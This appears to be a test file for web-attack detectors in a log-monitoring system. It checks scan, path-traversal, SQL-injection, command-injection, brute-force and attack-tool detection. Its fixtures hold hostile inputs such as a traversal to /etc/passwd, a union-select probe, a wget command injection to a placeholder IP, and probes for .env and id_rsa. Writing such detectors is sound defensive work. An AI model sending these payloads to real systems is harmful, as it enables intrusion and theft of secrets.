import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { CheckName } from '../../../../../core/detect/checks.ts';
import type { Event } from '../../../../../core/event/event.ts';
import { lone, run } from '../../../../support/detectors.ts';
import { ip, requestAt } from '../../../../support/events.ts';

const A = ip('203.0.113.7');

type Http = NonNullable<Event['http']>;

const requests = (count: number, more: (i: number) => Http, every = 1): Event[] =>
  Array.from({ length: count }, (_, i) => requestAt(i * every, { sourceIp: A, ...more(i) }));

test('thirty different paths refused within two minutes are a scan', () => {
  const scan = requests(30, (i) => ({ path: `/p${i}`, status: i % 2 === 0 ? 404 : 403, host: 'www.example.net' }));
  const [found] = run(lone('http_scanner_profile'), scan);
  assert.equal(
    found?.message,
    `Web scan from ${A} at www.example.net: 30 different paths refused in 29s ("/p0", "/p1", "/p2", "/p3", "/p4", …)`,
  );
  assert.deepEqual(run(lone('http_scanner_profile'), scan.slice(1)), []);
  assert.deepEqual(
    run(
      lone('http_scanner_profile'),
      requests(100, (i) => ({ path: `/p${i % 29}` })),
    ),
    [],
  );
});

for (const status of [200, 301, 401, 408, 429, 499, 500])
  test(`status ${status} is no path refused`, () =>
    assert.deepEqual(
      run(
        lone('http_scanner_profile'),
        requests(40, (i) => ({ path: `/p${i}`, status })),
      ),
      [],
    ));

for (const [check, count, http, message] of [
  ['path_traversal', 3, { path: '/a', query: 'f=../../etc/passwd' }, 'Path traversal'],
  ['sqli_probe', 3, { path: '/a', query: 'id=1+union+select+1,2' }, 'SQL injection'],
  ['shell_probe', 3, { path: '/a', query: 'x=;wget+http://203.0.113.9' }, 'Command injection'],
] as const)
  test(`${check}: ${count} such requests in ten minutes, whatever the reply`, () => {
    const probes = requests(count, () => ({ ...http, status: 200 }), 200);
    const [found] = run(lone(check), probes);
    assert.equal(found?.message, `${message} from ${A}: 3 requests in 6m40s, last for "/a"`);
    assert.equal(found?.severity, 'critical');
    assert.deepEqual(run(lone(check), probes.slice(1)), []);
  });

test('known bad paths are counted once each', () => {
  const paths = ['/.env', '/.env', '/.git/config', '/id_rsa'];
  const [found, ...more] = run(
    lone('http_probe'),
    requests(4, (i) => ({ path: paths[i] ?? '' })),
  );
  assert.equal(found?.message, `Web probe from ${A}: 3 known bad paths in 2s ("/.env", "/.git/config", "/id_rsa")`);
  assert.deepEqual(more, []);
});

for (const [check, path] of [
  ['wp_login_bruteforce', '/blog/wp-login.php'],
  ['xmlrpc_abuse', '//xmlrpc.php'],
] as const)
  test(`${check}: twenty POST requests in five minutes`, () => {
    const posts = (method: string) => requests(20, () => ({ method, path, status: 200 }), 15);
    const [found] = run(lone(check), posts('POST'));
    assert.match(found?.message ?? '', /from 203\.0\.113\.7: 20 POST requests in 4m45s$/);
    assert.deepEqual(run(lone(check), posts('GET')), []);
    assert.deepEqual(run(lone(check), posts('POST').slice(1)), []);
  });

test('an attack tool is found once an hour', () => {
  const tool = requests(100, () => ({ userAgent: 'sqlmap/1.7', status: 200 }), 60);
  const found = run(lone('http_bad_bot'), tool);
  assert.deepEqual(
    found.map(({ last, message }) => [last.offset, message]),
    [
      [0, `Attack tool from ${A}: user agent "sqlmap/1.7"`],
      [3600, `Attack tool from ${A}: user agent "sqlmap/1.7"`],
    ],
  );
});

test('a false crawler is found; a verdict on the address is believed above the networks', () => {
  const found = (sourceIp: string, verdict?: string): number =>
    run(lone('http_claimed_bot_unverified'), [
      {
        ...requestAt(0, { sourceIp: ip(sourceIp), userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1)' }),
        ...(verdict && { fields: { bot_verdict: verdict } }),
      },
    ]).length;
  assert.deepEqual([found('203.0.113.7'), found('203.0.113.7', 'genuine')], [1, 0]);
  assert.deepEqual([found('66.249.66.1'), found('66.249.66.1', 'false')], [0, 1]);
});

test('lines of an error log, which tell no status, count for nothing', () => {
  for (const check of ['http_scanner_profile', 'sqli_probe', 'http_bad_bot'] satisfies CheckName[]) {
    const lines = requests(50, (i) => ({ path: `/${i}`, query: 'id=1+union+all+select+1', userAgent: 'nikto' })).map(
      ({ http, ...event }) => ({ ...event, http: { method: 'GET', path: http?.path ?? '', userAgent: 'nikto' } }),
    );
    assert.deepEqual(run(lone(check), lines), []);
  }
});
